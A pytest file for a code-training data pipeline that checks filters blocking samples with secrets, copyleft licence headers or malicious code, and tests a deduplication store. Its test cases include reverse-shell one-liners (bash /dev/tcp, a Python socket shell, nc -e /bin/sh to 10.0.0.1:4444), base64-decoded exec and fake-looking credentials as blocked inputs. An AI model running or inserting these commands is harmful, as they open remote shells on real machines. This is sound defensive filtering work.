"""The blocking filters, table-style, on both engines (hyperscan prefilter and plain re)."""

from __future__ import annotations

import pytest

from codelupe_trainer.data import filters, patternset
from codelupe_trainer.config import DataSettings
from codelupe_trainer.data.records import Sample

CODE = "def area(width, height):\n    return width * height\n\n\nprint(area(2, 3))\n"

CASES = [
    # (content, blocked by)
    (CODE, None),
    (f'AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLQ"\n{CODE}', "secrets"),
    (f"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n{CODE}", "secrets"),
    (f'engine = create_engine("postgresql://app:Zx9vQ2mLp7Rt@db:5432/prod")\n{CODE}', "secrets"),
    (f'headers = {{"Authorization": "token ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"}}\n{CODE}', "secrets"),
    (f'db_password = "hunter2-Correct-Horse"\n{CODE}', "secrets"),
    (f'api_key = os.environ["API_KEY"]\npassword = getpass.getpass()\n{CODE}', None),
    (f'password = "<your-password-here>"\n{CODE}', None),
    (f"# tokenize the input: the token stream feeds the parser\ntokens = list(tokenize(source))\n{CODE}", None),
    (f"# SPDX-License-Identifier: GPL-2.0-only\n{CODE}", "license"),
    (f"/* SPDX-License-Identifier: AGPL-3.0-or-later */\n{CODE}", "license"),
    (f"# This library is free software; you can redistribute it under the terms of the\n# GNU Lesser General Public License\n{CODE}", "license"),
    (f"# SPDX-License-Identifier: MIT\n{CODE}", None),
    (f"# Licensed under the Apache License, Version 2.0\n{CODE}", None),
    (f'import os\nos.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")\n{CODE}', "malicious"),
    (f'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n{CODE}', "malicious"),
    (f"import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\n{CODE}", "malicious"),
    (f"import base64\ndata = base64.b64decode(payload)\n{CODE}", None),
]


@pytest.fixture(params=["hyperscan", "re"])
def engine(request, monkeypatch):
    if request.param == "hyperscan" and patternset.hyperscan is None:
        pytest.skip("hyperscan is not installed on this platform")
    if request.param == "re":
        monkeypatch.setattr(patternset, "hyperscan", None)
    filters._secret_detectors.cache_clear()
    yield request.param
    filters._secret_detectors.cache_clear()


@pytest.mark.parametrize(("content", "expected"), CASES, ids=range(len(CASES)))
def test_each_filter_blocks_what_it_should_and_nothing_else(engine, content, expected):
    blockers, _ = filters.build_blockers(DataSettings(block_duplicates=False), None)
    assert filters.PatternSet([filters.license_pattern(["GPL"])]).engine == engine
    sample = Sample(1, content, "python", 80)
    reasons = [name for name, blocks in blockers if blocks(sample)]
    assert reasons[:1] == ([expected] if expected else [])


def test_secret_lines_are_found_where_they_are():
    text = f'{CODE}\nAWS_KEY = "AKIAIOSFODNN7EXAMPLQ"\n{CODE}'
    assert filters.find_secret_lines(text) == [CODE.count("\n") + 1]


def test_filters_can_be_switched_off():
    blockers, _ = filters.build_blockers(
        DataSettings(block_secrets=False, block_license=False, block_malicious=False, block_duplicates=False,
                     block_near_duplicates=False), None)
    assert blockers == []


def test_extra_malicious_patterns_are_added_to_the_defaults():
    blockers, _ = filters.build_blockers(DataSettings(malicious_patterns=[r"evil_payload_\d+"], block_duplicates=False), None)
    blocked = dict(blockers)["malicious"]
    assert blocked(Sample(1, f"x = evil_payload_42\n{CODE}", "python", 80))
    assert blocked(Sample(2, f"nc -e /bin/sh 10.0.0.1 4444\n{CODE}", "shell", 80))


def test_duplicate_store_survives_restarts_and_normalises_whitespace(tmp_path):
    store = filters.DuplicateStore(tmp_path / "dedup.sqlite3")
    assert not store.seen(Sample(1, CODE, "python", 80))
    assert store.seen(Sample(2, CODE.replace("\n", "   \r\n"), "python", 80)), "same code, other line endings"
    assert len(store) == 0, "nothing is remembered before commit"
    store.commit()
    store.close()
    reopened = filters.DuplicateStore(tmp_path / "dedup.sqlite3")
    assert len(reopened) == 1
    assert reopened.seen(Sample(3, CODE + "\n\n", "python", 80))
    assert not reopened.seen(Sample(4, CODE + "# changed\n", "python", 80))


def test_a_legacy_store_with_a_torn_append_is_imported_whole_records_only(tmp_path):
    """The old format appended 16-byte records; a torn append (crash, full disk) misaligned every record after
    it. Importing keeps the complete records, and the new store cannot tear."""
    first, second = filters.content_hash(CODE), filters.content_hash(CODE + "# two\n")
    (tmp_path / "trained-hashes.bin").write_bytes(first + second + second[:7])  # the last append was torn
    store = filters.DuplicateStore(tmp_path / "dedup.sqlite3")
    assert len(store) == 2
    assert store.seen(Sample(1, CODE, "python", 80)) and store.seen(Sample(2, CODE + "# two\n", "python", 80))
    assert not (tmp_path / "trained-hashes.bin").exists()


def test_a_kill_in_the_middle_of_a_commit_leaves_the_last_committed_store(tmp_path):
    import subprocess
    import sys

    store = filters.DuplicateStore(tmp_path / "dedup.sqlite3")
    store.seen(Sample(1, CODE, "python", 80))
    store.commit()
    store.close()
    script = (
        "import sys; from codelupe_trainer.data import filters; from codelupe_trainer.data.records import Sample\n"
        "store = filters.DuplicateStore(__import__('pathlib').Path(sys.argv[1]))\n"
        "[store.seen(Sample(i, f'def f{i}():\\n    return {i}\\n', 'python', 80)) for i in range(5000)]\n"
        "store.commit()\n"
    )
    killed = subprocess.run([sys.executable, "-c", script, str(tmp_path / "dedup.sqlite3")],
                            env={**__import__("os").environ, "CODELUPE_FAULT": "dedup:kill"})
    assert killed.returncode == -9
    reopened = filters.DuplicateStore(tmp_path / "dedup.sqlite3")
    assert len(reopened) == 1 and reopened.seen(Sample(2, CODE, "python", 80))
    assert reopened._connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_widened_repeats_are_a_superset():
    assert patternset.widen_repeats(r"a[\s\S]{0,200}?b\{1,2\}") == r"a[\s\S]{0,}?b\{1,2\}"


@pytest.mark.parametrize("block_duplicates", [True, False])
def test_copies_of_protected_texts_are_blocked_and_never_recorded(tmp_path, block_duplicates):
    settings = DataSettings(block_duplicates=block_duplicates, block_near_duplicates=False)
    blockers, store = filters.build_blockers(settings, tmp_path, protected=[CODE])
    reasons = dict(blockers)
    copy = Sample(1, CODE + "\n\n", "python", 80)  # the same text after whitespace normalisation
    assert reasons["duplicates"](copy) and not reasons["duplicates"](Sample(2, CODE + "\nx = 1\n", "python", 80))
    store.commit()
    fresh, _ = filters.build_blockers(settings, tmp_path)
    assert not dict(fresh).get("duplicates", lambda sample: False)(copy)  # protection is never written to the store
